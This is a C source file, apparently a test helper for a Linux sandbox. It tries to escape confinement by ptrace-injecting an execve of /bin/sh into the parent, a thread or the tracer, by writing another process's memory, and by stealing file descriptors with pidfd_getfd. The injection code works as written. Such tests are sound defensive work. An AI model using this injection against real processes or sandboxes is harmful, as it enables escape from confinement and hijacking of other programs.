// escape: a confined command trying to reach a process outside its
// sandbox, as an attacker would. Each mode is one way in; the program
// prints exactly one line and exits with
//
//	0 "ESCAPED mode: detail"  the access was granted (for the ptrace
//	                           modes: code was injected and runs)
//	1 "BLOCKED mode: errno"   the kernel refused it
//	3 "N/A mode: why"         there is nothing to attack that way
//
// Modes (PID defaults to the parent):
//
//	ptrace-parent          PTRACE_ATTACH the parent's main thread and
//	                       inject execve("/bin/sh", "-c", CMD)
//	ptrace-thread          the same on a thread of the parent that is
//	                       neither its main thread nor our tracer
//	ptrace-tracer          the same on the thread that traces us
//	ptrace-pid PID         the same on another process
//	vm-write [PID]         process_vm_readv + process_vm_writev of 8 bytes
//	proc-mem [PID]         pread + pwrite of 8 bytes through /proc/PID/mem
//	pidfd-getfd [PID]      pidfd_open + pidfd_getfd of one of its descriptors
//
// CMD is $ESCAPE_CMD (default: "grep Seccomp: /proc/self/status >
// $ESCAPE_MARKER"): what the injected process runs, unconfined if the
// attack worked. With ESCAPE_PAUSE=1 the program then waits for a signal
// (the tests check that SIGTERM still ends the run).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *mode;

static int finish(int code) {
	fflush(stdout);
	if (getenv("ESCAPE_PAUSE") && strcmp(getenv("ESCAPE_PAUSE"), "1") == 0)
		for (;;)
			pause();
	return code;
}

static int escaped(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int escaped(const char *fmt, ...) {
	va_list ap;
	va_start(ap, fmt);
	printf("ESCAPED %s: ", mode);
	vprintf(fmt, ap);
	printf("\n");
	va_end(ap);
	return finish(0);
}

static int blocked(const char *what, int err) {
	printf("BLOCKED %s: %s: %s\n", mode, what, strerror(err));
	return finish(1);
}

static int na(const char *why) {
	printf("N/A %s: %s\n", mode, why);
	return finish(3);
}

static long status_field(int pid, const char *field) {
	char path[64], line[256];
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	long v = -1;
	size_t n = strlen(field);
	while (fgets(line, sizeof line, f))
		if (strncmp(line, field, n) == 0)
			v = strtol(line + n, NULL, 10);
	fclose(f);
	return v;
}

// poke writes len bytes at addr in tid's memory, word by word.
static int poke(int tid, uintptr_t addr, const void *buf, size_t len) {
	const unsigned char *p = buf;
	for (size_t off = 0; off < len; off += sizeof(long)) {
		long word = 0;
		size_t n = len - off < sizeof(long) ? len - off : sizeof(long);
		if (n < sizeof(long)) {
			errno = 0;
			word = ptrace(PTRACE_PEEKDATA, tid, (void *)(addr + off), NULL);
			if (errno)
				return -1;
		}
		memcpy(&word, p + off, n);
		if (ptrace(PTRACE_POKEDATA, tid, (void *)(addr + off), (void *)word) < 0)
			return -1;
	}
	return 0;
}

// inject attaches to thread tid and makes it execve /bin/sh -c CMD.
static int inject(int tid) {
	if (ptrace(PTRACE_ATTACH, tid, NULL, NULL) < 0)
		return blocked("PTRACE_ATTACH", errno);
	int st;
	if (waitpid(tid, &st, __WALL) < 0)
		return blocked("waitpid", errno);
	struct user_regs_struct r;
	if (ptrace(PTRACE_GETREGS, tid, NULL, &r) < 0)
		return blocked("PTRACE_GETREGS", errno);

	const char *cmd = getenv("ESCAPE_CMD");
	char buf[4096];
	if (!cmd) {
		const char *marker = getenv("ESCAPE_MARKER");
		snprintf(buf, sizeof buf, "grep Seccomp: /proc/self/status > %s", marker ? marker : "/dev/null");
		cmd = buf;
	}
	// Strings and argv well below the stack pointer (past the red zone).
	uintptr_t base = (r.rsp - 65536) & ~(uintptr_t)15;
	uintptr_t sh = base, dashc = base + 16, c = base + 32;
	size_t clen = strlen(cmd) + 1;
	uintptr_t argv = (c + clen + 15) & ~(uintptr_t)15;
	uintptr_t vec[4] = {sh, dashc, c, 0};
	if (poke(tid, sh, "/bin/sh", 8) < 0 || poke(tid, dashc, "-c", 3) < 0 ||
	    poke(tid, c, cmd, clen) < 0 || poke(tid, argv, vec, sizeof vec) < 0)
		return blocked("PTRACE_POKEDATA", errno);
	// A syscall instruction where the thread stands.
	if (poke(tid, r.rip, "\x0f\x05", 2) < 0)
		return blocked("PTRACE_POKEDATA", errno);
	r.rax = SYS_execve;
	r.orig_rax = -1; // no syscall restart
	r.rdi = sh;
	r.rsi = argv;
	r.rdx = 0;
	if (ptrace(PTRACE_SETREGS, tid, NULL, &r) < 0)
		return blocked("PTRACE_SETREGS", errno);
	printf("ESCAPED %s: injected execve into thread %d (tgid %ld)\n", mode, tid, status_field(tid, "Tgid:"));
	fflush(stdout);
	ptrace(PTRACE_DETACH, tid, NULL, NULL);
	return finish(0);
}

// writable finds a private writable mapping of pid (0 if its maps cannot
// be read: the attack then goes on at an unmapped address, where a
// granted access shows as EFAULT).
static uintptr_t writable(int pid) {
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	uintptr_t lo = 0;
	while (fgets(line, sizeof line, f)) {
		unsigned long a, b;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) == 3 && strcmp(perms, "rw-p") == 0) {
			lo = a;
			break;
		}
	}
	fclose(f);
	return lo;
}

static int vm_write(int pid) {
	uintptr_t addr = writable(pid);
	if (!addr)
		addr = 0x10000;
	char word[8];
	struct iovec local = {word, sizeof word}, remote = {(void *)addr, sizeof word};
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0) {
		if (errno == EFAULT)
			return escaped("process_vm_readv allowed (EFAULT at unmapped %#lx)", (unsigned long)addr);
		return blocked("process_vm_readv", errno);
	}
	if (process_vm_writev(pid, &local, 1, &remote, 1, 0) < 0)
		return blocked("process_vm_writev", errno);
	return escaped("wrote 8 bytes at %#lx", (unsigned long)addr);
}

static int proc_mem(int pid) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int fd = open(path, O_RDWR);
	if (fd < 0)
		return blocked("open /proc/PID/mem", errno);
	uintptr_t addr = writable(pid);
	if (!addr)
		return escaped("opened %s for writing", path);
	char word[8];
	if (pread(fd, word, sizeof word, addr) != sizeof word)
		return blocked("pread", errno);
	if (pwrite(fd, word, sizeof word, addr) != sizeof word)
		return blocked("pwrite", errno);
	return escaped("wrote 8 bytes at %#lx through %s", (unsigned long)addr, path);
}

static int pidfd_getfd_mode(int pid) {
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		return blocked("pidfd_open", errno);
	int last = EBADF;
	for (int fd = 0; fd < 64; fd++) {
		int got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (got >= 0) {
			char link[64], target[256] = "?";
			snprintf(link, sizeof link, "/proc/self/fd/%d", got);
			ssize_t n = readlink(link, target, sizeof target - 1);
			if (n > 0)
				target[n] = 0;
			return escaped("took descriptor %d (%s)", fd, target);
		}
		if (errno != EBADF)
			return blocked("pidfd_getfd", errno);
		last = errno;
	}
	return blocked("pidfd_getfd", last);
}

// otherThread picks a thread of pid that is neither its main thread nor
// skip.
static int otherThread(int pid, int skip) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/task", pid);
	DIR *d = opendir(path);
	if (!d)
		return -errno;
	struct dirent *e;
	int tid = 0;
	while ((e = readdir(d))) {
		int t = atoi(e->d_name);
		if (t > 0 && t != pid && t != skip) {
			tid = t;
			break;
		}
	}
	closedir(d);
	return tid;
}

int main(int argc, char **argv) {
	if (argc < 2) {
		fprintf(stderr, "usage: escape MODE [PID]\n");
		return 2;
	}
	mode = argv[1];
	int pid = argc > 2 ? atoi(argv[2]) : getppid();
	long tracer = status_field(getpid(), "TracerPid:");
	if (strcmp(mode, "ptrace-parent") == 0 || strcmp(mode, "ptrace-pid") == 0)
		return inject(pid);
	if (strcmp(mode, "ptrace-thread") == 0) {
		int tid = otherThread(pid, (int)tracer);
		if (tid < 0)
			return blocked("listing the parent's threads", -tid);
		if (tid == 0)
			return na("the parent has no other thread");
		return inject(tid);
	}
	if (strcmp(mode, "ptrace-tracer") == 0) {
		if (tracer <= 0)
			return na("nothing traces this process");
		return inject((int)tracer);
	}
	if (strcmp(mode, "vm-write") == 0)
		return vm_write(pid);
	if (strcmp(mode, "proc-mem") == 0)
		return proc_mem(pid);
	if (strcmp(mode, "pidfd-getfd") == 0)
		return pidfd_getfd_mode(pid);
	fprintf(stderr, "escape: unknown mode %s\n", mode);
	return 2;
}
